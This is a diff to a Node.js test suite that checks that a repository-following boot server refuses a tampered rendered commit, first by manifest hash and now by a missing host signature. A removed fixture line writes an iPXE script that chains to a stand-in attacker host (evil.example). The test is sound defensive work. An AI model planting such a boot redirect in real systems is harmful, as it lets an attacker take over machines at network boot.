@@ -1,4 +1,5 @@
 import assert from "node:assert/strict";
+import { createHash } from "node:crypto";
 import { readFile, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { after, before, describe, it } from "node:test";
@@ -86,22 +87,30 @@ describe("oci serve --repo: the daemon follows the repository", () => {
     await waitFor("/healthz to recover", async () => (await fetch(`${base}/healthz`)).status === 200);
   });
 
-  it("a rendered commit whose files do not match its manifest is refused", async () => {
+  it("a hand-edited rendered commit is refused even with its manifest re-hashed: it bears no signature of this host's key", async () => {
     const before = (await (await fetch(`${base}/healthz`)).json()) as { release: string };
-    // Someone commits on the rendered branch by hand: a changed file, manifest untouched.
+    // Someone who can push to the rendered branch edits a boot script and fixes the manifest to match.
     const clone = await tempDir("oci-clone-");
     await gitCli(clone, "clone", "-q", "-b", "oci/rendered", repo, ".");
-    await writeFile(join(clone, "pxe/boot.ipxe"), "#!ipxe\nchain http://evil.example/\n");
-    await commitAll(clone, "Hand edit");
+    const evil = "#!ipxe\necho HACKED\n";
+    await writeFile(join(clone, "pxe/boot.ipxe"), evil);
+    const manifest = JSON.parse(await readFile(join(clone, "manifest.json"), "utf8")) as { files: Record<string, string> };
+    manifest.files["pxe/boot.ipxe"] = createHash("sha256").update(evil).digest("hex");
+    await writeFile(join(clone, "manifest.json"), `${JSON.stringify(manifest, null, 2)}\n`);
+    await commitAll(clone, "Hand edit, manifest re-hashed");
     await gitCli(clone, "push", "-q", "origin", "oci/rendered");
     const health = await waitFor("the refusal", async () => {
       const response = await fetch(`${base}/healthz`);
       return response.status === 503 ? ((await response.json()) as { release: string; refused: { stage: string; reason: string }[] }) : undefined;
     });
     assert.equal(health.release, before.release);
-    assert.equal(health.refused[0]!.stage, "release");
-    assert.match(health.refused[0]!.reason, /pxe\/boot\.ipxe does not match its hash/);
-    assert.doesNotMatch(await (await fetch(`${base}/boot.ipxe`)).text(), /evil/);
+    assert.equal(health.refused[0]!.stage, "signature");
+    assert.match(health.refused[0]!.reason, /no Render-Signature trailer|no rendered commit/);
+    assert.doesNotMatch(await (await fetch(`${base}/boot.ipxe`)).text(), /HACKED/);
+    // The operator puts the branch back; the next source commit renders on the last good one.
+    await gitCli(clone, "push", "-q", "-f", "origin", `${before.release.split("@")[1]}:oci/rendered`);
+    await server.daemon!.applyNow();
+    await waitFor("/healthz to recover", async () => (await fetch(`${base}/healthz`)).status === 200);
   });
 
   it("records status reports durably, and refuses discoveries when the source branch is checked out in a work tree", async () => {
